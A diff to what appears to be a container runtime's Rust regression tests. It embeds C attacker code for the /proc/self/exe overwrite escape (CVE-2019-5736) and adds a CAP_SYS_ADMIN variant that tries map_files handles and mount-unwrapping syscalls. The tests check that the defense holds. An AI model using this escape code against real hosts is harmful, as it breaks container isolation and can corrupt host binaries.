@@ -39,7 +39,10 @@ const ATTACKER_C: &str = r##"
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mount.h>
+#include <sys/syscall.h>
 #include <unistd.h>
+#include <linux/mount.h>
 
 static const char *report_path;
 
@@ -75,10 +78,90 @@ static int is_target(const char *pid, const char *marker) {
     return 0;
 }
 
+/* Waits until `fd` is no longer busy (the process running it has exited), then tries to
+   write to and truncate the file through /proc/self/fd. */
+static void attack(int fd, const char *via) {
+    char fdpath[64];
+    snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", fd);
+    int w;
+    long busy = 0;
+    for (;;) {
+        w = open(fdpath, O_WRONLY);
+        if (w >= 0 || errno != ETXTBSY) break;
+        busy++;
+        usleep(1000);
+    }
+    if (w < 0) {
+        report("%s: open for writing refused after %ld busy tries: errno=%d (%s)", via, busy,
+               errno, strerror(errno));
+        return;
+    }
+    const char payload[] = "#!/bin/sh\necho the host runtime was overwritten\n";
+    ssize_t n = pwrite(w, payload, sizeof payload - 1, 0);
+    if (n > 0) {
+        report("wrote %zd bytes into the runtime's binary through %s", n, via);
+        return;
+    }
+    int write_errno = errno;
+    if (ftruncate(w, 0) == 0) {
+        report("truncated the runtime's binary through %s", via);
+        return;
+    }
+    report("%s: write refused: errno=%d (%s); truncate refused: errno=%d (%s)", via,
+           write_errno, strerror(write_errno), errno, strerror(errno));
+}
+
+/* The target's /proc/PID/map_files entry for the same file as its exe (CAP_SYS_ADMIN). */
+static int grab_map_files(const char *pid, int exe) {
+    char dir[64], exe_link[4096] = {0}, path[4200], link[4096];
+    snprintf(dir, sizeof dir, "/proc/self/fd/%d", exe);
+    if (readlink(dir, exe_link, sizeof exe_link - 1) < 0) return -1;
+    snprintf(dir, sizeof dir, "/proc/%s/map_files", pid);
+    DIR *d = opendir(dir);
+    if (!d) { report("opendir %s: %s", dir, strerror(errno)); return -1; }
+    struct dirent *e;
+    int fd = -1;
+    while ((e = readdir(d)) != NULL && fd < 0) {
+        if (e->d_name[0] == '.') continue;
+        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
+        ssize_t n = readlink(path, link, sizeof link - 1);
+        if (n < 0) continue;
+        link[n] = 0;
+        if (strcmp(link, exe_link) != 0) continue;
+        fd = open(path, O_PATH);
+        if (fd >= 0) report("grabbed map_files %s", e->d_name);
+        else report("open map_files %s: %s", e->d_name, strerror(errno));
+    }
+    closedir(d);
+    return fd;
+}
+
+/* With CAP_SYS_ADMIN: try to make the exe's mount writable again, or get a writable clone. */
+static int try_unwrap(int exe) {
+    struct mount_attr a;
+    memset(&a, 0, sizeof a);
+    a.attr_clr = MOUNT_ATTR_RDONLY;
+    int r = syscall(SYS_mount_setattr, exe, "", AT_EMPTY_PATH, &a, sizeof a);
+    report("unwrap: mount_setattr clearing rdonly: %s", r == 0 ? "done" : strerror(errno));
+    char p[64];
+    snprintf(p, sizeof p, "/proc/self/fd/%d", exe);
+    r = mount(NULL, p, NULL, MS_REMOUNT | MS_BIND, NULL);
+    report("unwrap: remount read-write: %s", r == 0 ? "done" : strerror(errno));
+    int c = syscall(SYS_open_tree, exe, "", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_EMPTY_PATH);
+    report("unwrap: open_tree clone: %s", c >= 0 ? "done" : strerror(errno));
+    if (c >= 0) {
+        r = syscall(SYS_mount_setattr, c, "", AT_EMPTY_PATH, &a, sizeof a);
+        report("unwrap: clone made writable: %s", r == 0 ? "done" : strerror(errno));
+    }
+    return c;
+}
+
 int main(int argc, char **argv) {
-    if (argc != 3) return 2;
+    if (argc != 3 && argc != 4) return 2;
     report_path = argv[1];
     const char *marker = argv[2];
+    int unwrap = argc == 4 && strcmp(argv[3], "unwrap") == 0;
+    char target[32] = "";
     char self[16];
     snprintf(self, sizeof self, "%d", getpid());
     report("started pid=%s", self);
@@ -99,39 +182,21 @@ int main(int argc, char **argv) {
                 continue;
             }
             if (readlink(path, link, sizeof link - 1) < 0) strcpy(link, "?");
+            snprintf(target, sizeof target, "%s", e->d_name);
             report("grabbed pid=%s exe=%s", e->d_name, link);
         }
         closedir(d);
         if (exe < 0) usleep(1000);
     }
-    char fdpath[64];
-    snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", exe);
-    int w;
-    long busy = 0;
-    for (;;) {
-        w = open(fdpath, O_WRONLY);
-        if (w >= 0 || errno != ETXTBSY) break;
-        busy++;
-        usleep(1000);
+    int mapfd = -1, clonefd = -1;
+    if (unwrap) {
+        mapfd = grab_map_files(target, exe);
+        clonefd = try_unwrap(exe);
     }
-    if (w < 0) {
-        report("open for writing refused after %ld busy tries: errno=%d (%s)", busy, errno,
-               strerror(errno));
-        return 0;
-    }
-    const char payload[] = "#!/bin/sh\necho the host runtime was overwritten\n";
-    ssize_t n = pwrite(w, payload, sizeof payload - 1, 0);
-    if (n > 0) {
-        report("wrote %zd bytes into the runtime's binary", n);
-        return 0;
-    }
-    int write_errno = errno;
-    if (ftruncate(w, 0) == 0) {
-        report("truncated the runtime's binary");
-        return 0;
-    }
-    report("write refused: errno=%d (%s); truncate refused: errno=%d (%s)", write_errno,
-           strerror(write_errno), errno, strerror(errno));
+    attack(exe, "exe");
+    if (mapfd >= 0) attack(mapfd, "map_files");
+    if (clonefd >= 0) attack(clonefd, "open_tree clone");
+    report("done");
     return 0;
 }
 "##;
@@ -307,15 +372,7 @@ fn bundle(args: &[&str], victim: &Victim, attacker: &Path, marker: &str) -> Bund
 
 /// What the attack did, checked: the grab happened, nothing was written, the bytes are intact.
 fn assert_defended(report: &Path, victim: &Victim, found: bool) {
-    let (finished, text) = wait_for(
-        report,
-        &[
-            "wrote",
-            "truncated",
-            "write refused",
-            "open for writing refused",
-        ],
-    );
+    let (finished, text) = wait_for(report, &["done"]);
     let grabbed = text.lines().any(|l| l.starts_with("grabbed"));
     assert!(
         found && grabbed,
@@ -323,7 +380,7 @@ fn assert_defended(report: &Path, victim: &Victim, found: bool) {
     );
     assert!(finished, "the attacker did not finish: {text}");
     assert!(
-        !text.contains("\nwrote") && !text.contains("\ntruncated"),
+        !text.contains("\nwrote") && !text.contains("\ntruncated") && !text.contains(": done"),
         "the container wrote into the runtime's binary: {text}"
     );
     let now = std::fs::read(&victim.bin).unwrap();
@@ -417,17 +474,40 @@ fn proc_self_exe_exec_cannot_overwrite_the_runtime_memfd() {
     }
 }
 
+/// A privileged container (CAP_SYS_ADMIN): the attacker also grabs the file through
+/// /proc/PID/map_files, and tries to make the read-only mount writable again (mount_setattr,
+/// a read-write remount, a writable open_tree clone) before writing through each handle.
+#[test]
+fn proc_self_exe_exec_with_cap_sys_admin_cannot_unwrap_the_mount() {
+    if require_root("proc_self_exe_exec_with_cap_sys_admin_cannot_unwrap_the_mount") {
+        exec_attack_with(Seal::Default, true);
+    }
+}
+
 fn exec_attack(seal: Seal) {
+    exec_attack_with(seal, false);
+}
+
+fn exec_attack_with(seal: Seal, privileged: bool) {
     let work = Scratch::new("cve5736-exec");
     let attacker = build_attacker(&work.0);
     let victim = victim(&work.0);
     let marker = format!("/entry-{}", unique_id("m"));
-    let b = bundle(
-        &["/attacker", "/report", &marker],
-        &victim,
-        &attacker,
-        &marker,
-    );
+    let mut args = vec!["/attacker", "/report", &marker];
+    if privileged {
+        args.push("unwrap");
+    }
+    let b = bundle(&args, &victim, &attacker, &marker);
+    if privileged {
+        b.update_config(|c| {
+            let caps = &mut c["process"]["capabilities"];
+            for set in ["bounding", "effective", "permitted"] {
+                if let Some(list) = caps[set].as_array_mut() {
+                    list.push("CAP_SYS_ADMIN".into());
+                }
+            }
+        });
+    }
     let id = unique_id("cve5736-exec");
     let bundle_dir = b.dir.to_string_lossy().to_string();
     let (st, err) = berth_with(
